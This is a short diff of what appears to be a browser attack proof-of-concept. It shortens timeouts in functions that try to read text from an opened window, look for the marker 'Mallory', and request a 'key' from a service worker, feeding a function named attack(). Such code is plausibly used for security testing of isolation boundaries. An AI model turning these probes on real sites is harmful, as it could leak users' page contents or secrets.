@@ -102,8 +102,8 @@ function popup() {
         const text = opened.document.body.innerText;
         if (text.includes("Mallory")) { clearInterval(timer); return resolve("window: " + text); }
       } catch (error) {}
-      if (tries > 25) { clearInterval(timer); resolve("window: nothing read"); }
-    }, 200);
+      if (tries > 10) { clearInterval(timer); resolve("window: nothing read"); }
+    }, 150);
   });
 }
 async function worker() {
@@ -113,7 +113,7 @@ async function worker() {
     const channel = new MessageChannel();
     channel.port1.onmessage = (event) => resolve("worker: " + JSON.stringify(event.data));
     registration.active.postMessage({ type: "key" }, [channel.port2]);
-    setTimeout(() => resolve("worker: no answer"), 2000);
+    setTimeout(() => resolve("worker: no answer"), 700);
   });
 }
 async function attack() {
